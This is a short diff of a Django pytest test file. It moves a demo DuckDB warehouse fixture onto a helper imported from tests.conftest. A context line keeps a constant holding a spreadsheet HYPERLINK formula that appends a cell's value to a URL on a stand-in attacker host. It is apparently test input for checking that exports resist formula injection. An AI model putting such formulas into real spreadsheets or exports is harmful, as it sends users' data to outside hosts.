@@ -20,9 +20,8 @@ from django.test import Client
 from registry.services.access import role_grant, token_create
 from registry.services.audit import audit_event_create
 from registry.services.definitions import definitions_sync
-from semantic.demo import build_demo_warehouse
 from semantic.warehouse.config import parse_warehouse_url
-from tests.conftest import ROOT
+from tests.conftest import ROOT, demo_warehouse_at
 
 pytestmark = pytest.mark.django_db
 
@@ -32,7 +31,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 @pytest.fixture(scope="module")
 def demo_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
     path = tmp_path_factory.mktemp("warehouse") / "demo.duckdb"
-    build_demo_warehouse(path, events=3000, seed=7)
+    demo_warehouse_at(path, events=3000, seed=7)
     return path
 
 
